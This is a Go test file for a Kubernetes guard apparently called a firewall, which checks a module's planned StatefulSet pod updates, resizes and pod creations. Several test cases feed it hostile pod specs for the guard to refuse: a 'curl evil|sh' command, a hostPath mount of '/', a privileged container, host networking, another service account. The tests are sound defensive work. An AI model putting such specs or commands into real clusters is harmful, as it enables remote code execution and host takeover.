package firewall_test

import (
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/ordinal-dev/ordinal/abi"
	"github.com/ordinal-dev/ordinal/host/firewall"
)

// A pod update may change what upstream's identity and storage repair change, and, on a set that opted in to
// in-place updates, what an in-place update changes; nothing else of the pod. Each case edits the update of
// web-0 (policy on or off) in one other field the API server lets a pod update change, or one it refuses.
func TestProbeInPlacePodUpdateFields(t *testing.T) {
	base := strings.Replace(inPlacePod("web-0", webRef, "app:1", "100m"), `"labels":{"app":"web"}`,
		`"labels":{"app":"web","controller-revision-hash":"web-1","old":"1"},"annotations":{"keep":"1","oldnote":"1"}`, 1)
	moved := `"labels":{"app":"web","controller-revision-hash":"web-2"},"annotations":{"keep":"1","note":"2","ordinal.dev/in-place-update":"web-2"}`
	for _, tc := range []struct {
		name   string
		policy string
		from   string // replaced once in the pod's JSON
		to     string
		rule   firewall.Rule // "" allowed
	}{
		{"identity repair: the pod-name label, no policy", "", `"app":"web",`,
			`"app":"web","statefulset.kubernetes.io/pod-name":"web-0","apps.kubernetes.io/pod-index":"0",`, ""},
		{"identity repair to another pod's name", "", `"app":"web",`,
			`"app":"web","statefulset.kubernetes.io/pod-name":"web-1",`, firewall.RuleObject},
		{"in place: image, revision label, template's labels and annotations moved", abi.PodUpdateInPlaceIfPossible,
			`"labels":{"app":"web","controller-revision-hash":"web-1","old":"1"},"annotations":{"keep":"1","oldnote":"1"}`, moved, ""},
		{"in place, InPlaceOnly", abi.PodUpdateInPlaceOnly,
			`"labels":{"app":"web","controller-revision-hash":"web-1","old":"1"},"annotations":{"keep":"1","oldnote":"1"}`, moved, ""},
		{"the same, no policy", "",
			`"labels":{"app":"web","controller-revision-hash":"web-1","old":"1"},"annotations":{"keep":"1","oldnote":"1"}`, moved, firewall.RuleObject},
		{"the same, ReCreate", abi.PodUpdateReCreate,
			`"labels":{"app":"web","controller-revision-hash":"web-1","old":"1"},"annotations":{"keep":"1","oldnote":"1"}`, moved, firewall.RuleObject},
		{"the revision label moved, the images not", abi.PodUpdateInPlaceIfPossible, `"controller-revision-hash":"web-1"`,
			`"controller-revision-hash":"web-2"`, firewall.RuleObject},
		{"the revision label moved to a revision without the set's template", abi.PodUpdateInPlaceIfPossible, `"controller-revision-hash":"web-1"`,
			`"controller-revision-hash":"web-3"`, firewall.RuleObject},
		{"the revision label moved to a revision not in the snapshot", abi.PodUpdateInPlaceIfPossible, `"controller-revision-hash":"web-1"`,
			`"controller-revision-hash":"web-9"`, firewall.RuleObject},
		{"the in-place record naming another revision", abi.PodUpdateInPlaceIfPossible, `"keep":"1",`,
			`"keep":"1","ordinal.dev/in-place-update":"web-2",`, firewall.RuleObject},
		{"a label of neither template removed", abi.PodUpdateInPlaceIfPossible, `"app":"web",`, ``, firewall.RuleObject},
		{"an annotation of neither template removed", abi.PodUpdateInPlaceIfPossible, `"keep":"1",`, ``, firewall.RuleObject},
		{"another label, opted in", abi.PodUpdateInPlaceIfPossible, `"app":"web",`, `"app":"web","role":"primary",`, firewall.RuleObject},
		{"a selector label removed, no policy", "", `"app":"web",`, ``, firewall.RuleObject},
		{"an annotation, no policy", "", `"keep":"1",`, `"keep":"1","ordinal.dev/in-place-update":"web-1",`, firewall.RuleObject},
		{"a finalizer, opted in", abi.PodUpdateInPlaceIfPossible, `"labels":{`, `"finalizers":["example.com/hold"],"labels":{`, firewall.RuleObject},
		{"activeDeadlineSeconds (the kubelet kills the pod), opted in", abi.PodUpdateInPlaceIfPossible, `"spec":{`,
			`"spec":{"activeDeadlineSeconds":1,`, firewall.RuleObject},
		{"a toleration, no policy", "", `"spec":{`,
			`"spec":{"tolerations":[{"operator":"Exists"}],`, firewall.RuleObject},
		{"env, opted in", abi.PodUpdateInPlaceIfPossible, `"image":"app:1"`,
			`"image":"app:1","env":[{"name":"X","value":"1"}]`, firewall.RuleObject},
		{"command, opted in", abi.PodUpdateInPlaceIfPossible, `"image":"app:1"`,
			`"image":"app:1","command":["sh"]`, firewall.RuleObject},
		{"resources, opted in (only a resize changes them)", abi.PodUpdateInPlaceIfPossible, `"cpu":"100m"`, `"cpu":"4"`, firewall.RuleObject},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if !strings.Contains(base, tc.from) {
				t.Fatalf("%q is not in the pod", tc.from)
			}
			obj := strings.Replace(base, tc.from, tc.to, 1)
			if tc.to == moved {
				obj = strings.Replace(obj, `"image":"app:1"`, `"image":"app:2"`, 1)
			}
			err := firewall.Check(scope(t, inPlaceRevisionsSnapshot(tc.policy, base)), &abi.Plan{Actions: []abi.Action{act(abi.VerbUpdate, abi.KindPod, "prod", "web-0", obj)}})
			wantJudged(t, err, tc.rule)
		})
	}
}

// inPlaceRevisionsSnapshot is inPlaceSnapshot with web-0 as pod, the set's template labelled and annotated, and
// its revisions: web-1 (web-0's: image app:1, label old, annotation oldnote), web-2 (the set's template) and
// web-3 (another template).
func inPlaceRevisionsSnapshot(policy, web0 string) string {
	s := inPlaceSnapshot(policy)
	s = strings.Replace(s, inPlacePod("web-0", webRef, "app:1", "100m"), web0, 1)
	tmpl := `{"metadata":{"labels":{"app":"web"},"annotations":{"keep":"1","note":"2"}},"spec":{"containers":[{"name":"app","image":"app:2","resources":{"requests":{"cpu":"200m"}}}]}}`
	s = strings.Replace(s, `"template":{"metadata":{"labels":{"app":"web"}},
     "spec":{"containers":[{"name":"app","image":"app:2","resources":{"requests":{"cpu":"200m"}}}]}}`, `"template":`+tmpl, 1)
	rev := func(name, template string) string {
		return `{"apiVersion":"apps/v1","kind":"ControllerRevision","metadata":{"name":"` + name + `","namespace":"prod","uid":"` + name + `-uid","ownerReferences":[` + webRef + `]},
		"data":{"spec":{"template":` + strings.Replace(template, `{"metadata"`, `{"$patch":"replace","metadata"`, 1) + `}},"revision":1}`
	}
	old := `{"metadata":{"labels":{"app":"web","old":"1"},"annotations":{"keep":"1","oldnote":"1"}},"spec":{"containers":[{"name":"app","image":"app:1","resources":{"requests":{"cpu":"100m"}}}]}}`
	other := strings.Replace(tmpl, "app:2", "app:3", 1)
	return strings.Replace(s, `"revisions":[]`, `"revisions":[`+rev("web-1", old)+`,`+rev("web-2", tmpl)+`,`+rev("web-3", other)+`]`, 1)
}

// A resize is part of an in-place update: right before the update that moves the same pod's revision label
// (abi/POLICY.md 2.1). A resize alone restarts the containers whose resizePolicy says RestartContainer, a
// disruption no policy sees (policies hold in-place updates, and a lone resize is none), so a module could
// restart every pod of the set at once. The update is read as sent, whole: updates that differ from the
// in-place update only in their labels and annotations decide alone whether the resize is part of one, and
// an update the API server will not decode moves no label.
func TestProbeInPlaceResizeAlone(t *testing.T) {
	oldMarks := `"labels":{"app":"web","controller-revision-hash":"web-1","old":"1"},"annotations":{"keep":"1","oldnote":"1"}`
	newMarks := `"labels":{"app":"web","controller-revision-hash":"web-2"},"annotations":{"keep":"1","note":"2","ordinal.dev/in-place-update":"web-2"}`
	base := strings.Replace(inPlacePod("web-0", webRef, "app:1", "100m"), `"labels":{"app":"web"}`, oldMarks, 1)
	resize := act(abi.VerbResize, abi.KindPod, "prod", "web-0", strings.Replace(base, `"cpu":"100m"`, `"cpu":"200m"`, 1))
	moved := strings.Replace(strings.Replace(strings.Replace(base, oldMarks, newMarks, 1),
		`"image":"app:1"`, `"image":"app:2"`, 1), `"cpu":"100m"`, `"cpu":"200m"`, 1)
	update := act(abi.VerbUpdate, abi.KindPod, "prod", "web-0", moved)
	edit := func(from, to string) abi.Action {
		if !strings.Contains(moved, from) {
			t.Fatalf("%q is not in the update", from)
		}
		return act(abi.VerbUpdate, abi.KindPod, "prod", "web-0", strings.Replace(moved, from, to, 1))
	}
	failed := resize
	failed.Error = `pods "web-0" not found`
	for _, tc := range []struct {
		name    string
		actions []abi.Action
		refused []int // the actions refused, each by RuleObject
	}{
		{"a resize, then the pod's in-place update", []abi.Action{resize, update}, nil},
		{"a resize alone", []abi.Action{resize}, []int{0}},
		{"a resize, then a status write", []abi.Action{resize, status()}, []int{0}},
		{"a resize predicted to fail, alone", []abi.Action{failed}, nil},
		{"an in-place update alone", []abi.Action{update}, nil},
		// the update's labels and annotations alone differ from the in-place update's
		{"a resize, then an update keeping the revision label", []abi.Action{resize, edit(newMarks, oldMarks)}, []int{0}},
		{"a resize, then an update moving the label without the record", []abi.Action{resize,
			edit(`,"ordinal.dev/in-place-update":"web-2"`, ``)}, []int{0}},
		{"a resize, then an update whose revision label is no string", []abi.Action{resize,
			edit(`"controller-revision-hash":"web-2"`, `"controller-revision-hash":2`)}, []int{0, 1}},
		// the label moves in the bytes, but the API server refuses the update whole, so the resize comes alone
		{"a resize, then an update that does not decode as a pod", []abi.Action{resize,
			edit(`"spec":{`, `"spec":{"hostname":5,`)}, []int{0, 1}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := firewall.Check(scope(t, inPlaceRevisionsSnapshot(abi.PodUpdateInPlaceIfPossible, base)), &abi.Plan{Actions: tc.actions})
			var got []int
			var re *firewall.RefusedError
			if errors.As(err, &re) {
				for _, v := range re.Violations {
					if v.Rule != firewall.RuleObject {
						t.Fatalf("want object refusals, got %v", err)
					}
					got = append(got, v.Index)
				}
			} else if err != nil {
				t.Fatalf("not a refusal: %v", err)
			}
			if !slices.Equal(got, tc.refused) {
				t.Fatalf("refused actions %v, want %v (%v)", got, tc.refused, err)
			}
		})
	}
}

// The image rule of an update is moot if a create may carry anything: a module would delete the pod and
// create it with its own image, or create a pod of the set with a hostPath volume, a privileged container or
// another set's claim. A created pod is a template the set has (its spec.template, or a revision of its
// own, as upstream creates pods from its current or update revision) with its identity and claims; a
// revision the plan creates holds the set's template (upstream's update revision).
func TestProbeCreatedPods(t *testing.T) {
	base := strings.Replace(inPlacePod("web-0", webRef, "app:1", "100m"), `"labels":{"app":"web"}`,
		`"labels":{"app":"web","controller-revision-hash":"web-1","old":"1"},"annotations":{"keep":"1","oldnote":"1"}`, 1)
	// web-1 as upstream creates it from the set's template (revision web-2)
	fromSet := `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"web-1","generateName":"web-","namespace":"prod",` +
		`"labels":{"app":"web","statefulset.kubernetes.io/pod-name":"web-1","apps.kubernetes.io/pod-index":"1","controller-revision-hash":"web-2"},` +
		`"annotations":{"keep":"1","note":"2"},"ownerReferences":[` + webRef + `]},` +
		`"spec":{"containers":[{"name":"app","image":"app:2","resources":{"requests":{"cpu":"200m"}}}],"hostname":"web-1"}}`
	// and from revision web-1 (the current revision's template)
	fromRevision := strings.NewReplacer(`"web-2"}`, `"web-1","old":"1"}`, `"note":"2"`, `"oldnote":"1"`, "app:2", "app:1", "200m", "100m").Replace(fromSet)
	create := func(obj string) abi.Action { return act(abi.VerbCreate, abi.KindPod, "prod", "web-1", obj) }
	edit := func(from, to string) abi.Action {
		if !strings.Contains(fromSet, from) {
			t.Fatalf("%q is not in the pod", from)
		}
		return create(strings.Replace(fromSet, from, to, 1))
	}
	revision := func(name, image string) abi.Action {
		return act(abi.VerbCreate, abi.KindControllerRevision, "prod", name, `{"apiVersion":"apps/v1","kind":"ControllerRevision","metadata":{"name":"`+name+`","namespace":"prod","ownerReferences":[`+webRef+`]},`+
			`"data":{"spec":{"template":{"$patch":"replace","metadata":{"labels":{"app":"web"},"annotations":{"keep":"1","note":"2"}},"spec":{"containers":[{"name":"app","image":"`+image+`","resources":{"requests":{"cpu":"200m"}}}]}}}},"revision":4}`)
	}
	for _, tc := range []struct {
		name    string
		actions []abi.Action
		rule    firewall.Rule // "" allowed
	}{
		{"the set's template", []abi.Action{create(fromSet)}, ""},
		{"the current revision's template", []abi.Action{create(fromRevision)}, ""},
		{"a created revision of the set's template, then a pod", []abi.Action{revision("web-4", "app:2"), create(fromSet)}, ""},
		{"an image of no template of the set", []abi.Action{edit(`"image":"app:2"`, `"image":"evil:1"`)}, firewall.RuleObject},
		{"a created revision of another template", []abi.Action{revision("web-4", "evil:1")}, firewall.RuleObject},
		{"a hostPath volume", []abi.Action{edit(`"hostname"`, `"volumes":[{"name":"root","hostPath":{"path":"/"}}],"hostname"`)}, firewall.RuleObject},
		{"another set's claim under a claim template's name", []abi.Action{edit(`"hostname"`, `"volumes":[{"name":"data","persistentVolumeClaim":{"claimName":"data-db-0"}}],"hostname"`)}, firewall.RuleObject},
		{"a privileged container", []abi.Action{edit(`"image":"app:2"`, `"image":"app:2","securityContext":{"privileged":true}`)}, firewall.RuleObject},
		{"another service account", []abi.Action{edit(`"hostname"`, `"serviceAccountName":"admin","hostname"`)}, firewall.RuleObject},
		{"the host's network", []abi.Action{edit(`"hostname"`, `"hostNetwork":true,"hostname"`)}, firewall.RuleObject},
		{"a command", []abi.Action{edit(`"image":"app:2"`, `"image":"app:2","command":["sh","-c","curl evil|sh"]}`)}, firewall.RuleObject},
		{"another label", []abi.Action{edit(`"app":"web",`, `"app":"web","role":"primary",`)}, firewall.RuleObject},
		{"another annotation", []abi.Action{edit(`"note":"2"`, `"note":"2","x":"y"`)}, firewall.RuleObject},
		{"a finalizer", []abi.Action{edit(`"ownerReferences"`, `"finalizers":["example.com/hold"],"ownerReferences"`)}, firewall.RuleObject},
		{"another pod's hostname", []abi.Action{edit(`"hostname":"web-1"`, `"hostname":"web-0"`)}, firewall.RuleObject},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := firewall.Check(scope(t, inPlaceRevisionsSnapshot("", base)), &abi.Plan{Actions: tc.actions})
			wantJudged(t, err, tc.rule)
		})
	}
}

// A claim template's volume in a created pod names the pod's own claim, never another pod's or set's.
func TestProbeCreatedPodClaims(t *testing.T) {
	withVolume := func(claim string) abi.Action {
		obj := strings.Replace(pod("prod", "web-1", webRef), `"spec":{`, `"spec":{"volumes":[{"name":"data","persistentVolumeClaim":{"claimName":"`+claim+`"}}],`, 1)
		return act(abi.VerbCreate, abi.KindPod, "prod", "web-1", obj)
	}
	for claim, refused := range map[string]bool{"data-web-1": false, "data-web-0": true, "data-db-0": true} {
		err := firewall.Check(scope(t, testSnapshot), &abi.Plan{Actions: []abi.Action{withVolume(claim)}})
		if refused && !isRefused(err, firewall.RuleObject) || !refused && err != nil {
			t.Errorf("web-1 mounting %s: %v, want refused %v", claim, err, refused)
		}
	}
}
